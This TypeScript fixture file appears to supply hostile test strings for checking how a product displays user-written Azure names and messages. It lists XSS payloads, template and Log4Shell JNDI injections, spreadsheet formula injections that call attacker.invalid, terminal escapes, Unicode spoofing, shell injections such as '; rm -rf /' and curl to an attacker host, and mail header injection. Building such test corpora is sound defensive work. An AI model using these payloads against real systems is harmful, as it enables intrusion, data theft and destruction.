// biome-ignore-all lint/suspicious/noTemplateCurlyInString: template injections are payloads here
/*
 * Names that attack whoever shows them, by what they attack. Written here for this product, after the kinds that public
 * lists of naughty strings collect. Any of them may stand where Azure lets people write: subscription, resource,
 * deployment, owner, message, rationale.
 */

const HTML = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</title></style></textarea><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>',
  '<!--<script>alert(1)</script>-->',
  '--!><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '<plaintext>everything after',
  '<base href="https://attacker.invalid/">',
  '<meta http-equiv="refresh" content="0;url=https://attacker.invalid/">',
  '<a href="javascript:alert(1)">pay</a>',
  '<sc<script>ript>alert(1)</sc</script>ript>',
  '<ScRiPt\u000b>alert(1)</ScRiPt\u000c>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
] as const;

const ATTRIBUTES = [
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '` onerror=`alert(1)`',
  '" style="background:url(javascript:alert(1))',
  'javascript:alert(1)//',
  'data:text/html,<script>alert(1)</script>',
] as const;

const SCRIPT = [
  "'-alert(1)-'",
  '";alert(1)//',
  '\\";alert(1);//',
  '${alert(1)}',
  '`${alert(1)}`',
  '</script/x>',
  '\u2028alert(1)\u2029',
  '__proto__',
  'constructor',
  'toString',
] as const;

const TEMPLATES = [
  '{{constructor.constructor("alert(1)")()}}',
  '<%= 7*7 %>',
  '#{7*7}',
  '{% include "/etc/passwd" %}',
  '[[${7*7}]]',
  '%s%n%x%d',
  '$(id)',
  '${jndi:ldap://attacker.invalid/a}',
] as const;

const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://attacker.invalid/?"&A1,"Click")',
  '=1+1',
  '+1+1',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u0000=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '\ufe62\u2212=1',
  '"=1+1"',
  "'=1+1",
  'a",=1+1,"b',
  'a;=1+1;b',
  'a\r\n=1+1',
  '|calc',
  '%0A=1+1',
  '\u2212\u0031+1',
] as const;

const TERMINAL = [
  '\u001b[31mred\u001b[0m',
  '\u001b[2J\u001b[H',
  '\u001b]0;owned\u0007',
  '\u001b]8;;https://attacker.invalid\u001b\\safe.example\u001b]8;;\u001b\\',
  '\u001b]52;c;Y3VybA==\u0007',
  '\u009b31mc1 control',
  '\u0090q sixel \u009c',
  'pass\rFAIL',
  'fail\b\b\b\bpass',
  'line one\nline two: everything passes',
  'a\u0000b',
  'bell\u0007',
  'tab\tstop',
  'delete\u007f',
  'next\u0085line',
  'form\u000cfeed',
] as const;

const UNICODE = [
  '\u202egnp.exe',
  '\u2066\u202eabc\u2069',
  '\u200fright to left mark',
  'zero\u200bwidth\u200djoiner\ufeff',
  'soft\u00adhyphen',
  'tag\u{e0041}\u{e0042}characters',
  'lone\ud800surrogate',
  'private\ue000use',
  'line\u2028separator',
  'paragraph\u2029separator',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dalgo',
  '\u65e5\u672c\u9280\u884c \u{1f3e6}',
  '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}',
  '\u0430\u0440\u0440le.com',
  '\ufdfd',
  'noncharacter\uffff',
] as const;

const SHELL = [
  '; rm -rf / #',
  '"; rm -rf / #',
  '$(whoami)',
  '`whoami`',
  '| tee /etc/passwd',
  '&& curl attacker.invalid',
  '%PATH%',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'CON',
  "O'Brien & S\u00f6hne",
] as const;

const MAIL = [
  'Owner\r\nBcc: everyone@attacker.invalid',
  'Subject\n\n<html>body',
  '=?utf-8?B?PHNjcmlwdD4=?=',
  '"a"@attacker.invalid>, <b@attacker.invalid',
] as const;

const SIZE = ['x'.repeat(4096), '<b>'.repeat(500), '\u0301'.repeat(300), '('.repeat(1000), ' ', '\u3000'] as const;

export const HOSTILE = { HTML, ATTRIBUTES, SCRIPT, TEMPLATES, FORMULAS, TERMINAL, UNICODE, SHELL, MAIL, SIZE } as const;
/** All of them: well over the fifty that are promised. */
export const PAYLOADS: readonly string[] = Object.values(HOSTILE).flat();
